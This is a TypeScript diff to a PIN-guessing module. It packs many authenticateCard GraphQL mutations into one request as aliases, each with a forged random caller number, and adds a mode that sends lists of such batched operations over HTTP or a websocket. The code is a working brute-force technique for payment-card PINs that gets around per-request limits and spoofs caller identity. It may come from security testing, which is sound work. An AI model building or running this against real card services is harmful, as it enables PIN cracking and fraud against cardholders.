@@ -20,12 +20,12 @@ export interface GuesserOptions {
 type Answer = { data?: Record<string, { __typename: string; code?: string }>; errors?: unknown };
 
 /** Each alias a caller of its own, as somebody who forges numbers would have it. */
-function bodyOf(pins: readonly string[]): string {
+function operationOf(pins: readonly string[]): { query: string } {
   const fields = pins.map(
     (pin, place) =>
       `g${place}: authenticateCard(input: { by: { pin: "${pin}" }, callerNumber: "+3932${randomInt(10_000_000, 99_999_999)}" }) { __typename ... on Error { code } }`,
   );
-  return JSON.stringify({ query: `mutation { ${fields.join(' ')} }` });
+  return { query: `mutation { ${fields.join(' ')} }` };
 }
 
 function codesOf({ data, errors }: Answer): string[] {
@@ -33,19 +33,36 @@ function codesOf({ data, errors }: Answer): string[] {
   return Object.values(data).map(({ code, __typename }) => code ?? __typename);
 }
 
-export function overHttp({ url, key, localAddress }: GuesserOptions): Guesser {
+async function post({ url, key, localAddress }: GuesserOptions, body: unknown): Promise<unknown> {
+  const asked = request(url, {
+    method: 'POST',
+    localAddress,
+    headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json' },
+  });
+  asked.end(JSON.stringify(body));
+  const [response] = await once(asked, 'response');
+  let text = '';
+  for await (const piece of response) text += piece;
+  return JSON.parse(text);
+}
+
+/** As aliases of one operation. */
+export function overHttp(options: GuesserOptions): Guesser {
+  return {
+    guess: async (pins) => codesOf((await post(options, operationOf(pins))) as Answer),
+    close: () => {},
+  };
+}
+
+/** As a list of operations with aliases, where the server takes lists. */
+export function inLists(options: GuesserOptions, operations: number): Guesser {
   return {
     guess: async (pins) => {
-      const asked = request(url, {
-        method: 'POST',
-        localAddress,
-        headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json' },
-      });
-      asked.end(bodyOf(pins));
-      const [response] = await once(asked, 'response');
-      let text = '';
-      for await (const piece of response) text += piece;
-      return codesOf(JSON.parse(text));
+      const each = Math.ceil(pins.length / operations);
+      const list = Array.from({ length: operations }, (_, place) =>
+        operationOf(pins.slice(place * each, (place + 1) * each)),
+      );
+      return ((await post(options, list)) as Answer[]).flatMap(codesOf);
     },
     close: () => {},
   };
@@ -68,7 +85,7 @@ export async function overSocket({ url, key, localAddress }: GuesserOptions): Pr
       last += 1;
       const id = `${last}`;
       const answered = new Promise<Answer>((resolve) => waiting.set(id, resolve));
-      socket.send(JSON.stringify({ id, type: 'subscribe', payload: JSON.parse(bodyOf(pins)) }));
+      socket.send(JSON.stringify({ id, type: 'subscribe', payload: operationOf(pins) }));
       return codesOf(await answered);
     },
     close: () => socket.close(),
